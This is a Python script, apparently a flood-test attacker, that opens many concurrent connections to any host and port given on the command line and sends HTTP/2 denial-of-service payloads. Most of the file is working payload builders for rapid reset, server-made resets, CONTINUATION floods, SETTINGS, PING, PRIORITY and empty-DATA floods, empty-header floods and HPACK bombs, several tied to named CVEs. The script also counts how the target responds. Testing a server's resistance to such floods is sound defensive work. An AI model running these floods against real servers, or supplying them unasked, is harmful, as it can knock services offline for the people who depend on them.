"""The attacker of `floods`, a process of its own: N connections that each send one attack until they are closed or time is
up, and what became of them."""

import asyncio
import json
import sys
import time
from collections import Counter
from pathlib import Path

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from kit import frames
from kit.frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, frame, reset, settings, window_update

POST, GET = frames.request(b"POST"), frames.request()
BIG_ANSWER = frames.request(path=b"/big")
NO_WINDOW = settings((4, 0))
A_LOT = 400
"""Frames a write."""
STREAMS = 100
"""Requests that a connection may have at a time."""
IDLE = "nothing"


def streams(first: int, count: int):
    return range(first * 2 + 1, (first + count) * 2 + 1, 2)


def rapid_reset(turn: int) -> bytes:
    """CVE-2023-44487: a request and its reset at once."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + reset(stream) for stream in streams(turn * 100, 100))


def made_you_reset(turn: int) -> bytes:
    """CVE-2025-8671: frames that make the server reset its stream itself: here a window increment of nothing."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, POST) + window_update(stream, 0) for stream in streams(turn * 100, 100))


def half_closed(turn: int) -> bytes:
    """The same by DATA behind the end of a stream."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(DATA, 0, stream, b"x") for stream in streams(turn * 100, 100))


def continuation(turn: int) -> bytes:
    """CVE-2024-27316: a header that never ends."""
    begin = frame(HEADERS, 0, 1, GET) if turn == 0 else b""
    return begin + frame(CONTINUATION, 0, 1, frames.literal(b"x" * 20, b"y" * 200) * 40) * 10


def small_continuation(turn: int) -> bytes:
    """The same with empty frames."""
    return (frame(HEADERS, 0, 1, GET) if turn == 0 else b"") + frame(CONTINUATION, 0, 1) * A_LOT


def settings_flood(turn: int) -> bytes:
    """CVE-2019-9515: each must be acknowledged."""
    return settings((3, 100)) * A_LOT


def ping_flood(turn: int) -> bytes:
    """CVE-2019-9512: each must be answered."""
    return frame(PING, 0, 0, b"12345678") * A_LOT


def empty_data(turn: int) -> bytes:
    """CVE-2019-9518: frames that bring nothing."""
    return (frame(HEADERS, END_HEADERS, 1, POST) if turn == 0 else b"") + frame(DATA, 0, 1) * A_LOT


def tiny_data(turn: int) -> bytes:
    """A body byte by byte, on a stream whose request is answered."""
    return (frame(HEADERS, END_HEADERS, 1, POST) if turn == 0 else b"") + frame(DATA, 0, 1, b"x") * A_LOT


def priority(turn: int) -> bytes:
    """CVE-2019-9513: reshuffles of a tree that nobody has any more."""
    return b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\xff") for stream in streams(turn * A_LOT % 10**8, A_LOT))


def window_updates(turn: int) -> bytes:
    """Increments of one."""
    return window_update(0, 1) * A_LOT


def unknown_frames(turn: int) -> bytes:
    """Frames of no known kind must be ignored."""
    return frame(0xEE, 0, 0, b"x") * A_LOT


def empty_headers(turn: int) -> bytes:
    """CVE-2019-9516: fields without a name."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + frames.literal(b"", b"") * 20) for stream in streams(turn * 100, 100))


def large_headers(turn: int) -> bytes:
    """A header list of twice what is taken, on each stream."""
    block = GET + b"".join(frames.literal(b"x-%d" % number, b"y" * 1000) for number in range(32))
    parts = [block[begin:begin + 16000] for begin in range(0, len(block), 16000)]
    out = b""
    for stream in streams(turn * 10, 10):
        for place, part in enumerate(parts):
            last = END_HEADERS if place == len(parts) - 1 else 0
            out += frame(CONTINUATION, last, stream, part) if place else frame(HEADERS, END_STREAM | last, stream, part)
    return out


def once(first: bytes):
    return lambda turn: first if turn == 0 else b""


def bomb(entry: bytes, count: int) -> bytes:
    """A table entry, and in each of 100 requests `count` bytes that each stand for it. No window: no answer gets away."""
    out = b""
    for number, stream in enumerate(streams(0, STREAMS)):
        block = GET + (entry if number == 0 else b"") + b"\xbe" * count
        # Parts of 16 KiB at most.
        parts = [block[begin:begin + 16000] for begin in range(0, len(block), 16000)]
        for place, part in enumerate(parts):
            last = END_HEADERS if place == len(parts) - 1 else 0
            out += frame(HEADERS, END_STREAM | last, stream, part) if place == 0 else frame(CONTINUATION, last, stream, part)
    return out


ATTACKS = {
    # name: (bytes of each turn, opening settings)
    IDLE: (once(frame(HEADERS, END_STREAM | END_HEADERS, 1, GET)), settings()),
    "rapid reset": (rapid_reset, settings()),
    "resets made by the server (window)": (made_you_reset, settings()),
    "resets made by the server (half closed)": (half_closed, settings()),
    "CONTINUATION without end": (continuation, settings()),
    "empty CONTINUATION": (small_continuation, settings()),
    "SETTINGS": (settings_flood, settings()),
    "PING": (ping_flood, settings()),
    "empty DATA": (empty_data, settings()),
    "DATA of one octet": (tiny_data, settings()),
    "PRIORITY": (priority, settings()),
    "WINDOW_UPDATE": (window_updates, settings()),
    "unknown frames": (unknown_frames, settings()),
    "fields without a name": (empty_headers, settings()),
    "header lists of 33 KB": (large_headers, settings()),
    "small answers that are never taken": (
        once(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) for stream in streams(0, STREAMS))), NO_WINDOW),
    "HPACK bomb, 4,000 octets an entry": (once(bomb(frames.literal(b"x", b"y" * 3900, indexed=True), 15000)), NO_WINDOW),
    "HPACK bomb, 4 fields within the limit": (once(bomb(frames.literal(b"x", b"y" * 3900, indexed=True), 3)), NO_WINDOW),
    "HPACK bomb, 450 tiny fields": (once(bomb(frames.literal(b"x", b"", indexed=True), 450)), NO_WINDOW),
    "HPACK bomb, 90 tiny fields": (once(bomb(frames.literal(b"x", b"", indexed=True), 90)), NO_WINDOW),
    "large answers that are never taken": (
        once(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, BIG_ANSWER) for stream in streams(0, STREAMS))), NO_WINDOW),
}


# Those that hold what they have asked for.
HELD = {name for name, (_, opening) in ATTACKS.items() if opening == NO_WINDOW and "4,000" not in name}


async def attack(name: str, host: str, port: int, seconds: float, tally: Counter, closed_after: list) -> None:
    turns, opening = ATTACKS[name]
    begun = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        tally["refused"] += 1
        return

    async def read() -> None:
        rest = b""
        try:
            while piece := await reader.read(65536):
                rest += piece
                for kind, _, _, payload in frames.frames_in(rest):
                    tally["reset"] += kind == frames.RST_STREAM
                    rest = rest[9 + len(payload):]
        except OSError:
            pass
        closed_after.append(time.monotonic() - begun)

    reading = asyncio.create_task(read())
    turn, data = 0, frames.PREFACE + opening
    try:
        while not reading.done() and time.monotonic() - begun < seconds:
            data += turns(turn)
            if data:
                writer.write(data)
                async with asyncio.timeout(max(0.01, begun + seconds - time.monotonic())):
                    await writer.drain()
                tally["octets"] += len(data)
            else:
                await asyncio.wait([reading], timeout=0.2)
            turn, data = turn + 1, b""
            # Others want to write as well.
            await asyncio.sleep(0.002)
    except (OSError, TimeoutError):
        pass
    if not reading.done():
        await asyncio.wait([reading], timeout=0.5)
    if not reading.done():
        tally["open"] += 1
        reading.cancel()
    writer.transport.abort()


async def main(name: str, host: str, port: int, connections: int, seconds: float) -> None:
    tally, closed_after = Counter(), []
    await asyncio.gather(*(attack(name, host, port, seconds, tally, closed_after) for _ in range(connections)))
    print(json.dumps({**tally, "closed_after": sorted(closed_after)}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])))
